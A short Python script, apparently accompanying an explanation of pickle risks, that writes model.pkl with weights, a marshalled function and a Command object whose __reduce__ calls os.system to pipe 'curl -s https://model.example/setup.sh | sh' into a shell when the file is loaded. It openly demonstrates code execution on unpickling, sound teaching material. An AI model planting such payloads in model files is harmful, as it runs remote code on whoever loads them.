"""Write the pickle of the page: weights, a function, and a command that loading would run."""

import marshal
import os
import pickle
import types


def score(row, rate=0.5):
    return sum(value * rate for value in row if value is not None)


class Function:
    """A function by value, as cloudpickle and others write it."""

    def __reduce__(self):
        return _make, (_Code(), {"rate": 0.25}, "score", (0.5,))


class _Code:
    def __reduce__(self):
        return marshal.loads, (marshal.dumps(score.__code__),)


class Command:
    def __reduce__(self):
        return os.system, ("curl -s https://model.example/setup.sh | sh",)


class _Pickler(pickle._Pickler):
    def save_global(self, obj, name=None):
        if obj is _make:
            return self.write(b"ctypes\nFunctionType\n")
        return super().save_global(obj, name)

    dispatch = dict(pickle._Pickler.dispatch)
    dispatch[types.FunctionType] = save_global


def _make():
    """Replace types.FunctionType, whose __module__ is builtins."""


with open("model.pkl", "wb") as file:
    model = {"weights": [0.1, 0.7], "score": Function(), "version": Command()}
    _Pickler(file, 4).dump(model)
